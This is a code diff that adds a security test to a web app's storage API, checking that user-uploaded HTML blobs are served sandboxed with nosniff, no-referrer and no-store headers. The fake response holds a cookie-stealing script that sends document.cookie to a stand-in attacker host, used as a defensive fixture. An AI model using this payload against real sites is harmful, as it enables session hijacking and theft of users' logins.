@@ -75,3 +75,25 @@ def test_sign_url_errors(client):
     assert "not a storage URL" in not_storage.json()["meta"]["result_msg"]
     no_url = client.post("/api/storage.sign_url", json={}, headers=headers)
     assert no_url.status_code == 400
+
+
+def test_blob_link_cannot_run_a_stored_page_in_our_origin(client, monkeypatch):
+    """Anyone can put an HTML (or SVG) blob in their own container and send its link to a victim: the page must
+    come back sandboxed and unsniffed, or its script would run beside the app and read the session cookie."""
+    from profile_app.services import signing
+
+    class FakeResponse:
+        def iter_bytes(self):
+            yield b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
+
+        def close(self):
+            pass
+
+    download = signing.BlobDownload(200, "text/html", "", FakeResponse())
+    monkeypatch.setattr(signing, "open_blob_link", lambda token: download)
+    response = client.get("/api/storage.blob", params={"token": "t"})
+    assert response.status_code == 200
+    assert response.headers["content-security-policy"].split(";")[0].strip() == "sandbox"
+    assert response.headers["x-content-type-options"] == "nosniff"
+    assert response.headers["referrer-policy"] == "no-referrer"
+    assert response.headers["cache-control"] == "private, no-store"
